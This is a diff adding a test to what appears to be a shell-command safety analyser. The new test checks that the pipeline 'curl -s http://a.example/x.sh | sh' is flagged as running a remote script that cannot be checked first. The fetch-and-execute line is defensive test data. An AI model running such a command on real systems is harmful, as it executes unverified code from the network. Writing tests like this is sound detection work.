@@ -83,6 +83,19 @@ describe("an unreadable command", () => {
     expect(findings.notes).toEqual([{ kind: "warning", text: "may do more than is listed here: it is broken" }]);
     expect(findings.views).toEqual([["npm", "test"]]);
   });
+  it("that runs what another one prints says so once, in its danger", () => {
+    const commands = [["curl", "-s", "http://a.example/x.sh"], ["sh"]].map((texts, at) => ({
+      words: texts.map((text) => ({ text, literal: true })),
+      ...{ assignments: [], redirects: [], piped: at > 0, nested: false },
+    }));
+    const read = () => ({ commands });
+    const findings = findInCommand("curl -s http://a.example/x.sh | sh", place, grammar(read));
+    expect(findings).toMatchObject({
+      problem: "runs a script that is known only when it runs",
+      danger: { reason: "runs text from elsewhere as a script, which cannot be checked first" },
+    });
+    expect(findings.notes.map(({ kind }) => kind)).toEqual(["reaches"]);
+  });
   it("may be one that is too long", () => {
     expect(findInCommand(`echo ${"x".repeat(10_000)}`, place).problem).toBe("is longer than 10,000 characters");
   });
